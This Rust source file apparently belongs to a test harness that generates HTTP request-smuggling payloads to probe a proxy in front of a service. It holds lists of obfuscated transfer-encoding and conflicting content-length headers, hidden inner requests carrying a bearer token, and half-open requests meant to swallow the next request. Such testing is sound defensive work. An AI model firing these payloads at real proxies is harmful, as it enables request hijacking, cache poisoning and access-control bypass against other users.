//! Owns what is sent through a proxy to get past it: all that is sent to a server alone, with another request behind it, and
//! requests that hide another one in their body, for whoever reads the length otherwise than the proxy does.

use super::street::NUMBER;
use crate::smuggling::bodies::{chunks, codings, lengths};
use crate::smuggling::heads::{first_lines, heads};
use crate::smuggling::{body, in_chunks, order};

/// The last on a connection, so that it ends.
const LAST: &str = "GET /livez?z-##### HTTP/1.1\r\nhost: a\r\nx-request-id: z-#####\r\nconnection: close\r\n\r\n";
/// The same by the first, behind which a proxy reads no more: what gets past it waits for the next who asks.
const CLOSE: &str = "connection: close\r\n";
/// The beginning of a request. Whatever is sent behind it on the same connection becomes a part of it.
const HALF: &str = "GET /nowhere?i-##### HTTP/1.1\r\nx-request-id: i-#####\r\nx-swallowed: ";

/// Lines that some take for the coding of chunks, and some do not.
const CODINGS: [&str; 24] = [
    "transfer-encoding: chunked\r\n",
    "transfer-encoding:chunked\r\n",
    "transfer-encoding:\tchunked\r\n",
    "transfer-encoding: chunked \r\n",
    "transfer-encoding: chUNked\r\n",
    "transfer-encoding: xchunked\r\n",
    "transfer-encoding: \"chunked\"\r\n",
    "transfer-encoding: chunked;q=1\r\n",
    "transfer-encoding: \u{b}chunked\r\n",
    "transfer-encoding: \u{c}chunked\r\n",
    "transfer-encoding: chunked\0\r\n",
    "transfer-encoding : chunked\r\n",
    "transfer_encoding: chunked\r\n",
    "transfer-encoding:\r\n chunked\r\n",
    " transfer-encoding: chunked\r\n",
    "x-a: b\ntransfer-encoding: chunked\r\n",
    "x-a: b\rtransfer-encoding: chunked\r\n",
    "transfer-encoding: chunked, identity\r\n",
    "transfer-encoding: identity, chunked\r\n",
    "transfer-encoding: chunked, chunked\r\n",
    "transfer-encoding: chunked\r\ntransfer-encoding: x\r\n",
    "transfer-encoding: x\r\ntransfer-encoding: chunked\r\n",
    "connection: transfer-encoding\r\ntransfer-encoding: chunked\r\n",
    "te: chunked\r\ntransfer-encoding: chunked\r\n",
];

/// Routes with a body and without, open and shut, there and not: whoever answers early leaves a body unread.
const ROUTES: [&str; 14] = [
    "GET /livez",
    "POST /livez",
    "PUT /livez",
    "DELETE /livez",
    "OPTIONS /livez",
    "PROPFIND /livez",
    "GET /readyz",
    "GET /docs",
    "GET /nowhere",
    "POST /nowhere",
    "POST /notify/cha_nobody",
    "GET /api/v1/orders",
    "POST /api/v1/orders",
    "DELETE /api/v1/sessions/current",
];

/// Orders that nobody reads in two ways, each with another behind it.
pub(crate) fn plain(secret: &str) -> Vec<String> {
    let (body, inner) = (body("o-#####"), inner(secret));
    let length = format!("content-length: {}\r\n", body.len());
    let one = order(secret, "o-#####", &length, &body);
    let other = order(secret, "o-#####", "transfer-encoding: chunked\r\n", &in_chunks(&body));
    [one, other].map(|outer| format!("{outer}{inner}{LAST}")).into()
}

/// Everything else.
pub(crate) fn all(secret: &str) -> Vec<String> {
    let whole = inner(secret);
    let mut all: Vec<_> = [&*whole, HALF].iter().flat_map(|inner| followed(secret, inner)).collect();
    for (inner, close, last) in [(&*whole, "", LAST), (HALF, CLOSE, "")] {
        let order = format!("{}authorization: Bearer {secret}\r\n", outer("POST /api/v1/orders", close));
        let mut hidden = Vec::new();
        for outer in [order, outer("GET /livez", close)] {
            hidden.extend(CODINGS.iter().flat_map(|coding| hidden_by_coding(&outer, coding, inner)));
            hidden.extend(hidden_by_length(&outer, inner));
        }
        hidden.extend(ROUTES.iter().flat_map(|route| left_unread(&outer(route, close), inner)));
        all.extend(hidden.iter().map(|request| format!("{request}{last}")));
    }
    assert!(all.iter().all(|request| request.contains(NUMBER)), "each is known by its number");
    all
}

/// An order under a key of its own, which is none where it stands within a body.
fn inner(secret: &str) -> String {
    let body = body("i-#####");
    let lines = format!("x-request-id: i-#####\r\ncontent-length: {}\r\n", body.len());
    order(secret, "i-#####", &lines, &body).replacen("orders ", "orders?i-##### ", 1)
}

/// The head of a request that hides another one, without an end.
fn outer(route: &str, close: &str) -> String {
    format!("{route}?o-##### HTTP/1.1\r\nhost: a\r\n{close}x-request-id: o-#####\r\ncontent-type: application/json\r\n")
}

/// What a server alone is sent, with this behind it.
fn followed(secret: &str, inner: &str) -> Vec<String> {
    let body = body("o-#####");
    let orders = [lengths(&body), codings(&body, ""), chunks(&body, ""), heads(&body)].into_iter().flatten();
    let orders = orders.map(|it| order(secret, "o-#####", &it.lines, &it.behind));
    let heads = first_lines().into_iter().map(|(head, _)| head);
    orders.chain(heads).map(|request| format!("{request}{inner}{LAST}")).collect()
}

/// For one who goes by the length there is one request, and two for one who goes by the chunks; and the other way round.
fn hidden_by_coding(outer: &str, coding: &str, inner: &str) -> Vec<String> {
    let no_chunk = format!("0\r\n\r\n{inner}");
    let size = format!("{:x}\r\n", inner.len());
    let mut hidden = Vec::new();
    for (length, behind) in [(no_chunk.len(), &no_chunk), (size.len(), &in_chunks(inner))] {
        hidden.push(format!("{outer}content-length: {length}\r\n{coding}\r\n{behind}"));
        hidden.push(format!("{outer}{coding}content-length: {length}\r\n\r\n{behind}"));
    }
    // Without a length there is no body for one who does not know the coding.
    hidden.push(format!("{outer}{coding}\r\n{}", in_chunks(inner)));
    hidden
}

/// For one who goes by the one length there is one request, and two for one who goes by the other.
fn hidden_by_length(outer: &str, inner: &str) -> Vec<String> {
    let length = inner.len();
    let one = format!("content-length: {length}\r\n");
    [
        format!("content-length: 0\r\n{one}"),
        format!("{one}content-length: 0\r\n"),
        format!("content-length: 0, {length}\r\n"),
        format!("content-length: {length}, 0\r\n"),
        format!("content-length: 0\r\ncontent-length : {length}\r\n"),
        format!("content_length: 0\r\n{one}"),
        format!("content-length: +{length}\r\n"),
        format!("content-length: 0{length}\r\n"),
        format!("content-length: {length}.0\r\n"),
        format!("content-length: 0\u{b}{length}\r\n"),
        format!("content-length:\r\n {length}\r\n"),
        format!("x-a: b\n{one}"),
        format!("x-a: b\r{one}"),
        format!("x-a: b\r\n {one}"),
        format!("connection: content-length\r\n{one}"),
        format!("upgrade: h2c\r\nconnection: upgrade, http2-settings\r\nhttp2-settings: AAMAAABk\r\n{one}"),
        format!("upgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 777\r\n{one}"),
    ]
    .map(|lines| format!("{outer}{lines}\r\n{inner}"))
    .into()
}

/// A body that the route has no use for.
fn left_unread(outer: &str, inner: &str) -> Vec<String> {
    let length = format!("content-length: {}\r\n", inner.len());
    let coding = "transfer-encoding: chunked\r\n";
    let asked = "expect: 100-continue\r\n";
    vec![
        format!("{outer}{length}\r\n{inner}"),
        format!("{outer}{coding}\r\n{}", in_chunks(inner)),
        format!("{outer}{asked}{length}\r\n{inner}"),
        format!("{outer}{asked}{coding}\r\n{}", in_chunks(inner)),
    ]
}
